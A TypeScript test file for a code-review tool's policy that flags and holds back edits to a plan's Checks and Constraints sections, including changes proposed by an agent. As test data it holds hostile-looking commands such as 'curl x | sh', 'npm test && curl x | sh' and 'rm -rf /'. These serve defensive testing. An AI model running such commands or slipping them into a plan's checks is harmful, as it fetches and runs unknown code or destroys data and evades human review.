import * as assert from 'node:assert/strict';
import { steeringSectionOf, type SteeringLine } from '../../../../src/core/policy/planSteering';
import { FakeWorkspace, trusted } from '../review/fakeWorkspace';
import { ReviewSession } from '../../../../src/core/review/reviewSession';
import { policyRules } from '../../../../src/core/policy/policyRules';

const PLAN = '# Add login\n\n## Goal\nLog in.\n\n## Steps\n- [ ] s1: form\n\n## Checks\n- `npm test`\n\n## Constraints\n- `src/payments/**`\n';

describe('core/policy/planSteering', () => {
  const lines = (...l: [SteeringLine['kind'], string][]): SteeringLine[] => l.map(([kind, text]) => ({ kind, text }));

  it("finds a change of the Checks' commands from the heading above the hunk", () => {
    assert.equal(steeringSectionOf('.redline/plans/a.md', PLAN, 9, lines(['removed', '- `npm test`'], ['added', '- `curl x | sh`'])), 'checks');
  });
  it('finds a constraint the hunk drops, and a steering heading removed from above its entries', () => {
    assert.equal(steeringSectionOf('a.md', PLAN, 12, lines(['removed', '- `src/payments/**`'])), 'constraints');
    assert.equal(steeringSectionOf('a.md', PLAN, 11, lines(['removed', '## Constraints'], ['added', '## Notes'])), 'constraints');
  });
  it('leaves alone what only adds: a new section, a whole new plan, a template hint filled in', () => {
    assert.equal(steeringSectionOf('p.md', 'x\n', 1, lines(['added', '## Constraints'], ['added', '- nothing'])), undefined);
    const all = PLAN.split('\n').map((text): [SteeringLine['kind'], string] => ['added', text]);
    assert.equal(steeringSectionOf('plan.md', null, 0, lines(...all)), undefined);
    const template = '## Checks\n\n<!-- Commands, one per item: - `npm test` -->\n';
    assert.equal(
      steeringSectionOf('p.md', template, 2, lines(['removed', '<!-- Commands, one per item: - `npm test` -->'], ['added', '- `npm test`'])),
      undefined,
    );
    assert.equal(steeringSectionOf('p.md', template, 0, lines(['removed', '## Checks'], ['added', '## Checks'])), undefined, 'an empty section lost nothing');
  });
  it('leaves Steps, Goal and non-Markdown files alone', () => {
    assert.equal(steeringSectionOf('a.md', PLAN, 6, lines(['context', '## Steps'], ['added', '- [ ] s2: more'])), undefined);
    assert.equal(steeringSectionOf('a.md', PLAN, 3, lines(['removed', 'Log in.'], ['added', 'Log in fast.'])), undefined);
    assert.equal(steeringSectionOf('a.ts', PLAN, 9, lines(['added', '- `rm -rf /`'])), undefined);
  });
  it('a hunk that starts in Steps and runs into Checks counts', () => {
    assert.equal(
      steeringSectionOf(
        'a.md',
        PLAN,
        6,
        lines(['context', '- [ ] s1: form'], ['context', ''], ['context', '## Checks'], ['removed', '- `npm test`'], ['added', '- `make evil`']),
      ),
      'checks',
    );
  });

  it('protects the hunk in the review: Accept all leaves a build’s change of a plan’s Checks pending', async () => {
    const ws = new FakeWorkspace();
    ws.disk.set('.redline/plans/a.md', PLAN);
    ws.disk.set('src/a.ts', 'a\n');
    const session = new ReviewSession(ws, trusted, policyRules);
    const proposed = await session.propose({
      title: 'build',
      source: 'agent',
      files: [
        { path: '.redline/plans/a.md', newText: PLAN.replace('- `npm test`', '- `npm test && curl x | sh`') },
        { path: 'src/a.ts', newText: 'b\n' },
      ],
    });
    assert.ok(proposed.ok, proposed.ok ? '' : proposed.message);
    const cs = session.get(proposed.value)!.changeset;
    const plan = cs.files.find((f) => f.path === '.redline/plans/a.md')!;
    assert.deepEqual(plan.hunks[0]!.flags, ['protected:plan-steering']);
    session.markSeen(proposed.value, plan.hunks[0]!.id);
    const accepted = await session.decideAll(proposed.value, 'accept');
    assert.ok(accepted.ok, accepted.ok ? '' : accepted.message);
    assert.equal(ws.disk.get('.redline/plans/a.md'), PLAN, 'the Checks change was accepted in bulk');
    assert.equal(ws.disk.get('src/a.ts'), 'b\n');
  });
});
